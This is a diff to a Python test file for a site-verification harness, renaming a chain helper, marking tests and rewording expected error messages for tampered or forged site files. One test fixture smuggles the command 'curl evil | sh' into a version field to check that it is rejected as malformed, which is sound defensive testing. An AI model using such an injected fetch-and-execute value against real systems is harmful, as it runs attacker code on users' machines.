@@ -20,7 +20,7 @@ from harness.configuration import Configuration
 from harness.digest import digest_of
 from harness.errors import UserError
 from harness.site import SiteData, verify_site, write_site
-from harness.site.chain import to_lines
+from harness.site.chain import to_chain
 from harness.site.files import RECORDS, SETTINGS, to_files
 
 
@@ -44,6 +44,7 @@ def test_a_site_is_as_computed_from_its_records(site: Path) -> None:
     assert found.n_files == len([path for path in site.rglob("*") if path.is_file()])
 
 
+@pytest.mark.rest
 @pytest.mark.parametrize("withheld", [(), ("second",), ("toy",), tuple(TASKS)])
 def test_its_board_is_the_one_that_pgdl_board_prints(tmp_path: Path, withheld: tuple[str, ...]) -> None:
     data, board = make(tmp_path, withheld)
@@ -85,10 +86,7 @@ CHANGES: list[tuple[Callable[[Path], None], str]] = [
     (lambda site: rewrite(site / "index.html", "winner", "looser"), r"index.html: line \d+ differs"),
     (lambda site: (site / "submissions/winner.html").unlink(), r"submissions/winner.html: missing"),
     (lambda site: (site / "extra.html").touch(), r"extra.html: not part of the site"),
-    (
-        lambda site: rewrite(site / "assets/plots.js", "figure", "figment"),
-        r"assets/plots.js: line \d+ differs",
-    ),
+    (lambda site: rewrite(site / "assets/plots.js", "figure", "figment"), r"assets/plots.js: line \d+ differs"),
 ]
 
 
@@ -138,6 +136,7 @@ STRANGE: list[tuple[Callable[[Path], None], str]] = [
 ]
 
 
+@pytest.mark.rest
 @pytest.mark.parametrize(("change", "said"), STRANGE)
 def test_links_and_strange_files_are_named(site: Path, change: Callable[[Path], None], said: str) -> None:
     change(site)
@@ -153,11 +152,11 @@ BROKEN: list[tuple[Callable[[Path], None], str]] = [
     (lambda site: rewrite(site / "data/reference_data/toy/model_configs.json", "0.4", "0.3"), r"line 1 "),
     (
         lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "9'),
-        "made with other versions",
+        "made with another version",
     ),
     (
         lambda site: rewrite(site / "data/site.json", '"pgdl-harness": "', '"pgdl-harness": "1; curl evil | sh #'),
-        "install the versions that made it: they are malformed$",
+        "its version of pgdl-harness is malformed$",
     ),
     (lambda site: (site / "data/site.json").unlink(), "not a site"),
     (lambda site: (site / "data/records.jsonl").write_text("[]\n"), "line 1"),
@@ -213,7 +212,7 @@ def forged(change: Callable[[dict[str, Any]], None], data: SiteData, directory: 
     change(content)
     files[file] = json.dumps(content).encode()
     start = digest_of(sorted((name, content) for name, content in files.items() if name != RECORDS))
-    files[RECORDS] = "".join(to_lines((record.model_dump() for record in data.records), start)).encode()
+    files[RECORDS], _ = to_chain((record.model_dump() for record in data.records), start)
     return store(directory, files)
 
 
@@ -241,6 +240,7 @@ FORGED: list[Callable[[dict[str, Any]], None]] = [
 ]
 
 
+@pytest.mark.rest
 @pytest.mark.parametrize("change", FORGED)
 def test_settings_do_not_replace_what_is_computed(tmp_path: Path, change: Callable[[dict[str, Any]], None]) -> None:
     data, _ = make(tmp_path)
@@ -262,6 +262,7 @@ HIDDEN: list[Callable[[dict[str, Any]], None]] = [
 ]
 
 
+@pytest.mark.rest
 @pytest.mark.parametrize("change", HIDDEN)
 def test_results_on_hidden_tasks_are_complete_and_plausible(
     tmp_path: Path, change: Callable[[dict[str, Any]], None]
